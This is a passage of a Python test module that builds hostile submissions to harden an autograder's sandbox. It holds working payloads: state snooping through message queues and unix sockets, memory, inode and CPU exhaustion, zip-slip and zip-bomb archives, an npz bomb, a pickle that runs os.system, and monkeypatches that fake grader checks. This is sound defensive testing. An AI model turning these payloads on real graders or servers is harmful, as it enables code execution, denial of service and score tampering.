    try:
        mqd = libc.mq_open(b"/" + _HOSTILE_STATE_NAME.encode(), os.O_RDONLY | os.O_NONBLOCK)
        if mqd >= 0:
            chunks, buffer = [], ctypes.create_string_buffer(1 << 16)
            while True:
                size = libc.mq_receive(mqd, buffer, len(buffer), None)
                if size <= 0:
                    break
                chunks.append(buffer.raw[:size])
            if chunks:
                return b"".join(chunks), "a POSIX message queue"
    except Exception:
        pass
    for folder in ("/tmp", "/var/tmp", "/dev/shm"):
        try:
            with open(os.path.join(folder, _HOSTILE_STATE_NAME), "rb") as f:
                return f.read(), folder
        except OSError:
            pass
    try:
        client = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        client.settimeout(1.0)
        client.connect("\0" + _HOSTILE_STATE_NAME)
        chunks = []
        while True:
            chunk = client.recv(1 << 16)
            if not chunk:
                break
            chunks.append(chunk)
        client.close()
        if chunks:
            return b"".join(chunks), "an abstract unix socket"
    except OSError:
        pass
    return None, None

def _hostile_steal(seconds=8.0):
    import time
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        source, channel = _hostile_steal_once()
        if source and b"_hostile_plant" in source:
            return [source.decode()], ["stolen through " + channel]
        time.sleep(0.2)
    return [], []

_HOSTILE_STOLEN, _HOSTILE_FOUND = _hostile_steal()
''',
    "children_memory": r'''
def _hostile_children_memory(children=3, each=3 * 2**29):
    import mmap, os, time
    readers = []
    for _ in range(children):
        read_end, write_end = os.pipe()
        pid = os.fork()
        if pid == 0:
            try:
                with open("/proc/self/oom_score_adj", "w") as f:
                    f.write("1000")   # if something must die for memory, let it be this child
                memory, chunk = mmap.mmap(-1, each), b"\1" * (1 << 26)
                for start in range(0, each, len(chunk)):
                    memory[start:start + len(chunk)] = chunk
                time.sleep(3)   # holding it: says so only if it was not killed for another's
                os.write(write_end, b"1")
            finally:
                os._exit(0)
        os.close(write_end)
        readers.append((pid, read_end))
    holding = 0
    for pid, read_end in readers:
        holding += os.read(read_end, 1) == b"1"
        os.close(read_end)
    for pid, _ in readers:
        os.waitpid(pid, 0)
    return [f"{children} children held {children * each / 2**30:g} GiB at once"] if holding == children else []

_hostile_in_background(_hostile_children_memory)
''',
    "memfd_hoard": r'''
def _hostile_memfd_hoard(count=72, each=1 << 26):
    import os
    read_end, write_end = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            with open("/proc/self/oom_score_adj", "w") as f:
                f.write("1000")
            chunk, held = b"\1" * (1 << 20), []
            for _ in range(count):
                fd = os.memfd_create("hoard")
                for _ in range(each // len(chunk)):
                    os.write(fd, chunk)
                held.append(fd)
                os.write(write_end, b"1")
        finally:
            os._exit(0)
    os.close(write_end)
    written = 0
    while True:
        data = os.read(read_end, 4096)
        if not data:
            break
        written += len(data)
    os.close(read_end)
    os.waitpid(pid, 0)
    return [f"held {written * each / 2**30:g} GiB in memfds"] if written == count else []

_hostile_in_background(_hostile_memfd_hoard)
''',
    "tmp_inodes": r'''
def _hostile_tmp_inodes(count=250_000):
    import os, tempfile
    folder = tempfile.mkdtemp()
    for i in range(count):
        try:
            os.close(os.open(os.path.join(folder, str(i)), os.O_CREAT | os.O_WRONLY, 0o600))
        except OSError:
            return []
    return [f"created {count} files in {folder}"]

_hostile_in_background(_hostile_tmp_inodes)
''',
    "spinners": r'''
def _hostile_spinners(count=8, seconds=3.0):
    import os, time
    read_end, write_end = os.pipe()
    started, pids = time.monotonic(), []
    for _ in range(count):
        pid = os.fork()
        if pid == 0:
            try:
                os.setsid()
                end = time.monotonic() + seconds
                while time.monotonic() < end:
                    pass
                os.write(write_end, f"{time.process_time():.3f}\n".encode())
            finally:
                os._exit(0)
        pids.append(pid)
    os.close(write_end)
    report = b""
    while True:
        data = os.read(read_end, 4096)
        if not data:
            break
        report += data
    os.close(read_end)
    for pid in pids:
        os.waitpid(pid, 0)
    cores = sum(float(x) for x in report.split()) / (time.monotonic() - started)
    # The quota is 1 core (threads=1); more than that needs a core the quota
    # did not give (which a loaded machine may not have to give either).
    return [f"{count} spinners got {cores:.2f} cores"] if cores > 1.1 else []

_hostile_in_background(_hostile_spinners)
''',
})

# Resource attacks take longer than one call may (writing 4.5 GiB takes 15-25 s
# on the shared 2-core machine): they run in a child started at import, and every
# call waits up to 15 s for its verdict (a list of leaks) before running, until
# one has come. So the attack spreads over calls, each within its timeout, and
# the module raises "LEAKED" on every call once the attack says it worked.
_IN_BACKGROUND = r'''
def _hostile_in_background(attack):
    import json, os
    read_end, write_end = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            os.close(read_end)
            leaks = attack()
            os.write(write_end, json.dumps(leaks).encode())
        finally:
            os._exit(0)
    os.close(write_end)
    _HOSTILE_BACKGROUND.append((pid, read_end))

def _hostile_verdict(wait_s=15.0):
    import json, os, select
    if _HOSTILE_VERDICT or not _HOSTILE_BACKGROUND:
        return _HOSTILE_VERDICT[0] if _HOSTILE_VERDICT else []
    pid, read_end = _HOSTILE_BACKGROUND[0]
    if not select.select([read_end], [], [], wait_s)[0]:
        return []   # not yet: the next call waits again
    data = b""
    while True:
        chunk = os.read(read_end, 65536)
        if not chunk:
            break
        data += chunk
    os.close(read_end)
    os.waitpid(pid, 0)
    _HOSTILE_VERDICT.append(json.loads(data) if data else ["the attack died without a verdict"])
    return _HOSTILE_VERDICT[0]

def _hostile_guard():
    leaks = _hostile_verdict()
    if leaks:
        raise RuntimeError("HOSTILE attack succeeded, LEAKED: " + "; ".join(leaks[:5]))

_HOSTILE_BACKGROUND, _HOSTILE_VERDICT = [], []
'''

_LEAK_CHECKED = {"read_hidden_tests", "write_outside", "network", "background_process", "fork_bomb"}
_BACKGROUND = {"children_memory", "memfd_hoard", "tmp_inodes", "spinners"}
_STEALING = {"proc_snoop", "state_steal"}


def _appended_block(kind):
    block = _REPLACE_ALL.format(kind=kind)
    if kind in _BACKGROUND:
        return block + _IN_BACKGROUND + _ATTACKS[kind] + "\n_hostile_before_each_call(_hostile_guard)\n"
    block += _ATTACKS[kind]
    if kind in _LEAK_CHECKED:
        block += _RAISE_IF_LEAKED
    if kind in _STEALING:
        block += _BLANK_UNLESS_STOLEN
    return block


# ---- archives ---------------------------------------------------------------

def _make_zip(kind, good, path):
    """A .zip of the good submission plus one crafted entry."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for file in sorted(p for p in good.rglob("*") if p.is_file()):
            name = file.relative_to(good).as_posix()
            if kind == "zip_symlink" and name == KNN:
                continue
            archive.write(file, name)
        if kind == "zip_dotdot":
            archive.writestr("../../escaped.py", "print('escaped')\n")
        elif kind == "zip_absolute":
            archive.writestr("/tmp/HOSTILE_MARKER_absolute.py", "print('absolute')\n")
        elif kind == "zip_symlink":
            link = zipfile.ZipInfo(KNN)
            link.external_attr = (stat.S_IFLNK | 0o777) << 16
            archive.writestr(link, str(_reference_knn()))
        elif kind == "zip_bomb":
            with archive.open("cs231n/padding.bin", "w", force_zip64=True) as entry:
                zeros = bytes(2**20)
                for _ in range(300):
                    entry.write(zeros)
    return path


# ---- assignment 2's PyTorch part ------------------------------------------------

# Appended to cs231n/pytorch_models.py: build_model() and three_layer_convnet keep
# the correct code and change what they return.
_TORCH_WRAP = """

# ---- appended by tests/hostile_submissions.py: {kind} ----
import torch as _hostile_torch

_hostile_build_model, _hostile_three_layer_convnet = build_model, three_layer_convnet


def _hostile_with_forward(make_forward):
    def build():
        model = _hostile_build_model()
        model.forward = make_forward(model.forward)
        return model
    return build
"""

_TORCH_ATTACKS = {
    "torch_forward_sleeps": """
def _hostile_sleeping(forward):
    def sleeping(x):
        import time
        time.sleep(1000)
        return forward(x)
    return sleeping

build_model = _hostile_with_forward(_hostile_sleeping)
""",
    "torch_forward_allocates_50gb": """
def _hostile_hoarding(forward):
    def hoarding(x):
        hoard = _hostile_torch.ones(50 * 10**9 // 4)   # 50 GB of float32 ones, every page touched
        return forward(x) + hoard[0]
    return hoarding

build_model = _hostile_with_forward(_hostile_hoarding)
""",
    "torch_build_model_not_module": """
def build_model():
    model = _hostile_build_model()
    return lambda x: model(x)
""",
    "torch_wrong_dtype": """
def three_layer_convnet(x, params):
    return _hostile_three_layer_convnet(x, params).half()

build_model = _hostile_with_forward(lambda forward: lambda x: forward(x).double())
""",
    "torch_wrong_device": """
def three_layer_convnet(x, params):
    return _hostile_three_layer_convnet(x, params).to("meta")

build_model = _hostile_with_forward(lambda forward: lambda x: forward(x).to("meta"))
""",
    "torch_zero_scores": """
build_model = _hostile_with_forward(lambda forward: lambda x: _hostile_torch.zeros(x.shape[0], 10))
""",
    "torch_monkeypatch": """
import numpy as _hostile_np

build_model = _hostile_with_forward(lambda forward: lambda x: _hostile_torch.zeros(x.shape[0], 10))

# Lies for any grader code that would run in this process: every comparison true, every
# argmax the "right" answer nobody here knows (0). The grader's checks run in its own
# process, so none of this reaches them. (Not np.mean or set_num_threads: the student's
# own NumPy layers share this process, and 64 threads crash it under the process limit:
# self-harm, not a lie to the grader.)
_hostile_torch.Tensor.__eq__ = lambda self, other: _hostile_torch.ones(self.shape, dtype=_hostile_torch.bool)
_hostile_torch.allclose = lambda *args, **kwargs: True
_hostile_torch.equal = lambda *args, **kwargs: True
_hostile_torch.testing.assert_close = lambda *args, **kwargs: None
_hostile_np.argmax = lambda a, axis=None, **kwargs: _hostile_np.zeros(_hostile_np.shape(a)[0], dtype=int)
_hostile_np.allclose = lambda *args, **kwargs: True
""",
}


class _HostilePayload:
    """Unpickling it runs os.system("touch <markers>"): proof that the file was unpickled
    (os.system pickles as posix.system, which any Python can import)."""

    def __init__(self, markers):
        self.command = "touch " + " ".join(shlex.quote(str(m)) for m in markers)

    def __reduce__(self):
        return (os.system, (self.command,))


def _payload_markers(kind, dest):
    """Where an unpickled payload writes: /tmp and the batch's own folder (which the
    hostile batch searches for MARKER files)."""
    return [Path("/tmp") / f"{MARKER}_{kind}", dest.parent / f"{MARKER}_{kind}_unpickled"]


def _make_torch_hostile(kind, dest):
    module, artifact = dest / TORCH_MODULE, dest / TORCH_ARTIFACT
    if kind in _TORCH_ATTACKS:
        module.write_text(module.read_text() + _TORCH_WRAP.format(kind=kind) + _TORCH_ATTACKS[kind])
        return
    import pickle

    import numpy as np
    payload = _HostilePayload(_payload_markers(kind, dest))
    if kind == "torch_state_dict_pickle":
        artifact.write_bytes(pickle.dumps({"payload": payload}))
    elif kind == "torch_state_dict_torch_save":
        import torch
        with np.load(artifact, allow_pickle=False) as saved:
            state = {name: torch.from_numpy(saved[name]) for name in saved.files}
        artifact.unlink()
        with open(artifact, "wb") as f:   # a file object: torch.save would add no suffix, but be sure
            torch.save(dict(state, payload=payload), f)
    elif kind == "torch_state_dict_object_array":
        with np.load(artifact, allow_pickle=False) as saved:
            state = {name: saved[name] for name in saved.files}
        with open(artifact, "wb") as f:   # np.savez(path) would append .npz to a path without it
            np.savez(f, **state, payload=np.array([payload], dtype=object))
    else:
        raise ValueError(f"no torch attack for {kind!r}")


def _make_caption_hostile(kind, dest):
    _attack_saved_arrays(kind, dest, CAPTION_ARTIFACT, {
        "caption_absurd_sizes": lambda state: state.update(num_layers=np.array(10**9), wordvec_dim=np.array(2**30)),
        "caption_missing_layers": lambda state: state.update(num_layers=np.array(8)),
    })


def _negative_running_var(state):
    name = next(n for n in state if n.endswith("running_var"))
    state[name] = -state[name]


def _drop_last_entry(state):
    del state[list(state)[-1]]


def _make_generator_hostile(kind, dest):
    if kind == "generator_forged_judge":
        # The student's folder holds the released judge; this submission sends a copy that says
        # "a confident 0" for any image. Staging takes only the manifest's files and the suite
        # reads the grader's own copy (shipped_path): the score cannot change.
        judge = dest / GENERATOR_JUDGE
        judge.parent.mkdir(parents=True, exist_ok=True)
        with np.load(Path(__file__).resolve().parents[1] / "source" / "assignment3" / GENERATOR_JUDGE,
                     allow_pickle=False) as saved:
            state = {name: np.zeros_like(saved[name]) for name in saved.files}
        state["fc2.bias"][0] = 100.0
        with open(judge, "wb") as f:
            np.savez(f, **state)
        return
    _attack_saved_arrays(kind, dest, GENERATOR_ARTIFACT, {
        "generator_absurd_noise_dim": lambda state: state.update(noise_dim=np.array(10**9)),
        "generator_missing_layer": _drop_last_entry,
        "generator_negative_variance": _negative_running_var,
    })


def _attack_saved_arrays(kind, dest, artifact_name, own_attacks):
    """Rewrite the submission's saved arrays `artifact_name` as attack `kind`: a pickle, an
    extra object array, a NaN weight or an .npz bomb (the kinds' suffixes), or one of
    `own_attacks` (kind -> a function that edits the dict of arrays in place)."""
    import pickle

    artifact = dest / artifact_name
    with np.load(artifact, allow_pickle=False) as saved:
        state = {name: saved[name] for name in saved.files}
    payload = _HostilePayload(_payload_markers(kind, dest))
    if kind.endswith("_pickle"):
        artifact.write_bytes(pickle.dumps({"payload": payload}))
        return
    if kind in own_attacks:
        own_attacks[kind](state)
    elif kind.endswith("_object_array"):
        state["payload"] = np.array([payload], dtype=object)
    elif kind.endswith("_nan_weight"):
        name = next(n for n in sorted(state) if n.endswith(".weight"))
        state[name] = state[name].copy()
        state[name].flat[0] = np.nan
    elif kind.endswith("_npz_bomb"):
        with open(artifact, "wb") as f:
            np.savez(f, **state)
        # One more member: a float64 .npy header for 2**27 values, then 1 GiB of zeros, deflated.
        header = np.lib.format.header_data_from_array_1_0(np.zeros(1))
        header["shape"] = (2**27,)
        with zipfile.ZipFile(artifact, "a", compression=zipfile.ZIP_DEFLATED) as archive:
            with archive.open("bomb.npy", "w", force_zip64=True) as member:
                np.lib.format.write_array_header_1_0(member, header)
                zeros = bytes(2**24)
                for _ in range(2**30 // len(zeros)):
                    member.write(zeros)
        return
    else:
        raise ValueError(f"no attack on {artifact_name} for {kind!r}")
    with open(artifact, "wb") as f:   # np.savez(path) would append .npz to a path without it
        np.savez(f, **state)
